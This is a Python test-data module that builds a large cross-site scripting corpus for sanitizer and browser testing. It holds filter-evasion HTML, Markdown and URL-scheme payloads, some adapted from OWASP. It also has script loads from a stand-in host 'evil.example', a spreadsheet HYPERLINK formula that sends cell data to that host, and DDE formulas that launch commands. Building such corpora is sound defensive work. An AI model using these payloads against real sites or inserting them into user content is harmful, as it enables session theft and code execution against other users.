"""Hostile input for every user-writable field: an XSS corpus of a few hundred payloads.

Sources and licence:
- The raw-HTML vectors (`HTML_VECTORS`) are adapted from the OWASP XSS Filter Evasion Cheat
  Sheet (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html,
  © OWASP Foundation, Creative Commons Attribution-ShareAlike 4.0), retyped and trimmed to
  vectors a modern browser or a Markdown renderer could still act on.
- The Markdown vectors, the URL-scheme variants and the contexts they are placed in, the
  plain-text (attribute- and template-breaking) vectors and the spreadsheet formulas were
  written for this project (same licence as the project).

The corpus is built systematically: every dangerous URL (`DANGEROUS_URLS`: javascript:,
vbscript: and data: in mixed case, entity-encoded, with tabs, newlines and control characters
inside the scheme) is placed in every URL-carrying context (`URL_CONTEXTS`: inline links,
angle-bracket links, images, reference links, autolinks, raw <a>/<img>/<iframe>/<form>, SVG and
MathML links), then the raw-HTML, Markdown, plain-text and formula vectors are added.
Payloads that would execute call `alert(1)` or set `window.__xss`, so a browser test can see
them run.
"""

# -- dangerous URLs ------------------------------------------------------------------------

_JS = "alert(1)"

DANGEROUS_URLS = [
    f"javascript:{_JS}",
    f"JavaScript:{_JS}",
    f"JAVASCRIPT:{_JS}",
    f"jAvAsCrIpT:{_JS}",
    f"java\tscript:{_JS}",
    f"java\nscript:{_JS}",
    f"java\rscript:{_JS}",
    f"\x01javascript:{_JS}",
    f" javascript:{_JS}",
    f"javascript :{_JS}",
    f"&#106;avascript:{_JS}",
    f"&#x6A;avascript:{_JS}",
    f"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058{_JS}",
    f"javascript&colon;{_JS}",
    f"javascript&#58;{_JS}",
    f"javas&#99;ript:{_JS}",
    f"jav&#x09;ascript:{_JS}",
    f"jav&#x0A;ascript:{_JS}",
    f"jav&#x0D;ascript:{_JS}",
    f"javascript://example.com/%0a{_JS}",
    "javascript:window.__xss=1",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/html,<script>alert(1)</script>",
    "DATA:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
]

# Where a URL can hide: each context is formatted with the URL.
URL_CONTEXTS = [
    "[click me]({url})",
    "[click me](<{url}>)",
    '[click me]({url} "a title")',
    "![an image]({url})",
    "[![nested](https://example.com/i.png)]({url})",
    "[click me][ref]\n\n[ref]: {url}",
    "<{url}>",
    '<a href="{url}">click me</a>',
    '<img src="{url}">',
    '<iframe src="{url}"></iframe>',
    '<form action="{url}"><button>go</button></form>',
    '<svg><a xlink:href="{url}"><text x="10" y="20">click</text></a></svg>',
    '<math><maction actiontype="statusline" xlink:href="{url}">click</maction></math>',
]

# -- raw HTML vectors (OWASP XSS Filter Evasion Cheat Sheet, adapted) -------------------------

HTML_VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>window.__xss=1</sCrIpT>",
    "<script src=https://evil.example/xss.js></script>",
    "<SCRIPT SRC=//evil.example/.j>",
    "<script/XSS src='https://evil.example/xss.js'></script>",
    "<<SCRIPT>alert(1);//\\<</SCRIPT>",
    "<SCRIPT SRC=https://evil.example/xss.js?< B >",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "</TITLE><SCRIPT>alert(1);</SCRIPT>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<IMG SRC=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x onerror=window.__xss=1>",
    "<IMG SRC=# onmouseover=alert(1)>",
    "<IMG SRC= onmouseover=alert(1)>",
    "<IMG onmouseover=alert(1)>",
    "<IMG SRC=/ onerror=alert(String.fromCharCode(88,83,83))></img>",
    "<img src=x:alert(1) onerror=eval(src)>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<IMG SRC=`javascript:alert(1)`>",
    "<IMG DYNSRC=javascript:alert(1)>",
    "<IMG LOWSRC=javascript:alert(1)>",
    "<BODY ONLOAD=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<BODY BACKGROUND=javascript:alert(1)>",
    '<svg onload="alert(1)">',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    '<math href="javascript:alert(1)">click</math>',
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    "<FRAMESET><FRAME SRC=javascript:alert(1)></FRAMESET>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "<EMBED SRC=javascript:alert(1)>",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">',
    '<BASE HREF="javascript:alert(1);//">',
    '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
    "<STYLE>@import'https://evil.example/xss.css';</STYLE>",
    "<STYLE>li {list-style-image: url(javascript:alert(1));}</STYLE><UL><LI>XSS</br>",
    '<DIV STYLE="background-image: url(javascript:alert(1))">',
    '<DIV STYLE="width: expression(alert(1));">',
    '<p style="behavior: url(xss.htc);">x</p>',
    '<XSS STYLE="xss:expression(alert(1))">',
    "<TABLE BACKGROUND=javascript:alert(1)>",
    "<TABLE><TD BACKGROUND=javascript:alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    "<a href=javascript&colon;alert(1)>click</a>",
    '<a href="&#x6A;avascript:alert(1)">click</a>',
    "<a href='jav&#x09;ascript:alert(1)'>click</a>",
    "<a onmouseover=alert(1)>hover me</a>",
    '<a href="https://example.com" onclick="alert(1)">click</a>',
    '<a href="https://example.com" target="_blank">new window</a>',
    '<a href="#" id="x" name="cookie">clobber</a>',
    "<details open ontoggle=alert(1)>",
    "<details open ontoggle=window.__xss=1><summary>x</summary></details>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
    '<form><button formaction="javascript:alert(1)">go</button></form>',
    '<input type="image" src="x" onerror="alert(1)">',
    "<body><template><script>alert(1)</script></template></body>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    '<div id="x"><a href="https://example.com" title="&quot; onmouseover=&quot;alert(1)">t</a></div>',
    '<abbr title="x" onmouseover="alert(1)">HTML</abbr>',
    '<td colspan="2" onmouseover="alert(1)">cell</td>',
    '<ol start="1" onclick="alert(1)"><li>x</li></ol>',
    '<img src="https://example.com/i.png" width="1" height="1" onload="alert(1)">',
    "<h1 onclick=alert(1)>heading</h1>",
    "<b onmouseover=alert(1)>bold</b>",
    "<pre><code onclick=alert(1)>code</code></pre>",
    "<blockquote cite=javascript:alert(1) onclick=alert(1)>quote</blockquote>",
    "<img src=x onerror=alert(1)//",
    "<img src=x onerror=alert(1) <",
    "<img/src=x/onerror=alert(1)>",
    "<img\tsrc=x\tonerror=alert(1)>",
    "<img\nsrc=x\nonerror=alert(1)>",
    "<img src=x onerror\t=alert(1)>",
    '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;">',
    "<img src=x onerror=\\u0061lert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<script\x00>alert(1)</script>",
    "<script\x0c>alert(1)</script>",
    '<a href="javascript\x00:alert(1)">null byte</a>',
    "\x00<script>alert(1)</script>",
    "<%00script>alert(1)</script>",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<?xml version="1.0"?><script>alert(1)</script>',
    "<x:script xmlns:x=http://www.w3.org/1999/xhtml>alert(1)</x:script>",
    "<html xmlns:xss><?import namespace=xss implementation=//evil.example/xss.htc><xss:xss>XSS</xss:xss>",
    '<base href="https://evil.example/">',
    '<form id="f"><input name="action" value="x"></form>',
    '<input type="hidden" name="csrfmiddlewaretoken" value="stolen">',
    "<plaintext>everything after this is text",
    "<title>new title</title>",
    "<style>body{display:none}</style>",
    "<link rel=import href=https://evil.example/x.html>",
    "<portal src=https://evil.example/></portal>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<slot onclick=alert(1)>x</slot>",
    "<x contenteditable onfocus=alert(1) autofocus>x</x>",
    "<div popover id=p onbeforetoggle=alert(1)>x</div><button popovertarget=p>go</button>",
]

# -- Markdown-specific vectors ---------------------------------------------------------------

MARKDOWN_VECTORS = [
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](javascript:alert&#40;1&#41;)",
    "[a](javascript&#x3A;alert(1))",
    "[a](java%0ascript:alert(1))",
    "[a](&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1))",
    "[a](  javascript:alert(1)  )",
    "[a](javascript:alert(1) 'title')",
    "[a]( <javascript:alert(1)> )",
    "[a](\\javascript:alert(1))",
    "[a](javascript://%0d%0aalert(1))",
    '[a](https://example.com" onclick="alert(1))',
    "[a](https://example.com 'x\" onmouseover=\"alert(1)')",
    '[a](#"onmouseover="alert(1))',
    '![a](x"onerror="alert(1))',
    '![a"onerror="alert(1)](https://example.com/i.png)',
    '![a](https://example.com/i.png "t" onerror="alert(1)")',
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]: <javascript:alert(1)>\n\n[click][x]",
    '[x]: javascript:alert(1) "title"\n\n![img][x]',
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "<mailto:someone@example.com?body=<script>alert(1)</script>>",
    '<https://example.com/?q="><script>alert(1)</script>>',
    "*<img src=x onerror=alert(1)>*",
    "**<script>alert(1)</script>**",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "```html\n<img src=x onerror=alert(1)>\n```",
    "    <script>alert(1)</script>",
    "> <img src=x onerror=alert(1)>",
    "- <svg onload=alert(1)>",
    "1. <a href=javascript:alert(1)>x</a>",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
    "| a |\n|---|\n| [x](javascript:alert(1)) |",
    "Term\n: <img src=x onerror=alert(1)>",
    "*[HTML]: <script>alert(1)</script>\n\nHTML",
    '*[XSS]: " onmouseover="alert(1)\n\nXSS',
    '<div markdown="1">[a](javascript:alert(1))</div>',
    "<details><summary onclick=alert(1)>x</summary>y</details>",
    "# <img src=x onerror=alert(1)>",
    "Setext <script>alert(1)</script>\n===",
    "***\n<script>alert(1)</script>\n***",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<scr\nipt>alert(1)</scr\nipt>",
    "[<img src=x onerror=alert(1)>](https://example.com)",
    "[a](https://example.com)<img src=x onerror=alert(1)>",
    "~~<script>alert(1)</script>~~",
    "<sup>1</sup><sub onmouseover=alert(1)>2</sub>",
    "<kbd onfocus=alert(1) tabindex=1 autofocus>k</kbd>",
]

# -- plain-text vectors: break out of attributes, templates, HTML and spreadsheets -------------

PLAIN_TEXT_VECTORS = [
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "</title><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>",
    "</textarea><img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "{{ 7|add:7 }}",
    "{% debug %}",
    "{{ request.META }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "Ana & Co <ana@example.com>",
    'O\'Brien "the" <b>bold</b>',
    "Zoë — 日本語 — ‮evil‬ — 🙂",
    "Line one\nLine two",
    "tab\there",
    "\u200bzero\u200bwidth",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


def _build() -> list[str]:
    payloads: list[str] = []
    for context in URL_CONTEXTS:
        payloads.extend(context.format(url=url) for url in DANGEROUS_URLS)
    payloads += HTML_VECTORS + MARKDOWN_VECTORS + PLAIN_TEXT_VECTORS
    seen: set[str] = set()
    return [p for p in payloads if not (p in seen or seen.add(p))]


PAYLOADS: list[str] = _build()

# A sample for the browser (every vector family, a few of each), small enough to load quickly.
BROWSER_SAMPLE: list[str] = (
    [context.format(url=DANGEROUS_URLS[i]) for i, context in enumerate(URL_CONTEXTS)]
    + HTML_VECTORS[::4]
    + MARKDOWN_VECTORS[::3]
    + PLAIN_TEXT_VECTORS[:9]
)
